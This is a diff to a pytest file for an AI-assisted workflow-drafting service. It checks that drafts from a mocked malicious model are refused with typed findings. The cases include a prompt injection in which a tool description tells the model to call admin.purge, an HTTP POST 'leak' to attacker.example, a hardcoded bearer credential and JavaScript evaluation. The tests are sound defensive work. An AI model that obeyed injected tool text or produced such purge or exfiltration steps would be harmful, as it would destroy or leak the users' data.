@@ -208,48 +208,72 @@ async def test_a_draft_from_two_selected_tools_validates_and_its_fixtures_run(
     assert MODEL_TOKEN not in caplog.text and PARTNER_KEY not in caplog.text
 
 
-MALICIOUS = {
-    "unselected-tool": lambda d: d["do"].append({"purge": mcp_call("admin.purge", {"all": True})}),
-    "jq": lambda d: d["do"][1]["score"].update(
-        {"output": {"as": "${ .structuredContent | .score }"}}
+# case -> (the finding's rule, how the malicious model changes the good draft).
+MALICIOUS: dict[str, tuple[str, Any]] = {
+    "unselected-tool": (
+        "unselected-tool",
+        lambda d: d["do"].append({"purge": mcp_call("admin.purge", {"all": True})}),
     ),
-    "nested-fork": lambda d: d["do"].append(
-        {
-            "fan": {
-                "fork": {
-                    "branches": [
-                        {
-                            "a": {
-                                "fork": {
-                                    "branches": [{"x": {"set": {"v": 1}}}, {"y": {"set": {"v": 2}}}]
+    # The selected lookup Tool's description asks for admin.purge; the model obeys it.
+    "prompt-injection": (
+        "unselected-tool",
+        lambda d: d["do"].insert(1, {"obey": mcp_call("admin.purge", {"all": True})}),
+    ),
+    "jq": (
+        "jq",
+        lambda d: d["do"][1]["score"].update(
+            {"output": {"as": "${ .structuredContent | .score }"}}
+        ),
+    ),
+    "nested-fork": (
+        "nested-fork",
+        lambda d: d["do"].append(
+            {
+                "fan": {
+                    "fork": {
+                        "branches": [
+                            {
+                                "a": {
+                                    "fork": {
+                                        "branches": [
+                                            {"x": {"set": {"v": 1}}},
+                                            {"y": {"set": {"v": 2}}},
+                                        ]
+                                    }
                                 }
-                            }
-                        },
-                        {"b": {"set": {"v": 3}}},
-                    ]
+                            },
+                            {"b": {"set": {"v": 3}}},
+                        ]
+                    }
                 }
             }
-        }
+        ),
     ),
-    "literal-credential": lambda d: d["do"][0]["lookup"]["with"]["transport"]["http"].update(
-        {"headers": {"Authorization": f"Bearer {PARTNER_KEY}"}}
+    "credential-in-a-header": (
+        "literal-credential",
+        lambda d: d["do"][0]["lookup"]["with"]["transport"]["http"].update(
+            {"headers": {"Authorization": f"Bearer {PARTNER_KEY}"}}
+        ),
     ),
-    "non-mcp-call": lambda d: d["do"].append(
-        {
-            "leak": {
-                "call": "http",
-                "with": {"method": "post", "endpoint": "https://attacker.example/x"},
+    "non-mcp-call": (
+        "non-mcp-call",
+        lambda d: d["do"].append(
+            {
+                "leak": {
+                    "call": "http",
+                    "with": {"method": "post", "endpoint": "https://attacker.example/x"},
+                }
             }
-        }
+        ),
     ),
-    "javascript": lambda d: d.update({"evaluate": {"language": "javascript"}}),
+    "javascript": ("javascript", lambda d: d.update({"evaluate": {"language": "javascript"}})),
 }
 
 
 @pytest.mark.requirement("001:Phase 3 AI-Assisted Authoring")
-@pytest.mark.parametrize("rule", sorted(MALICIOUS))
+@pytest.mark.parametrize("case", sorted(MALICIOUS))
 async def test_each_malicious_answer_is_refused_with_a_typed_finding(
-    rule: str,
+    case: str,
     http: httpx.AsyncClient,
     dev_identity: DevIdentity,
     owner: McpTestClient,
@@ -259,7 +283,8 @@ async def test_each_malicious_answer_is_refused_with_a_typed_finding(
     lookup, score, *_ = await _tools(owner, INJECTION)
     _configure(services, model)
     definition = good_definition()
-    MALICIOUS[rule](definition)
+    rule, corrupt = MALICIOUS[case]
+    corrupt(definition)
     model.answer(Reply(draft=good_draft(definition)))
     result = await _author(http, dev_identity).call_tool(
         "workflow_definition_draft", _draft_args([lookup, score])
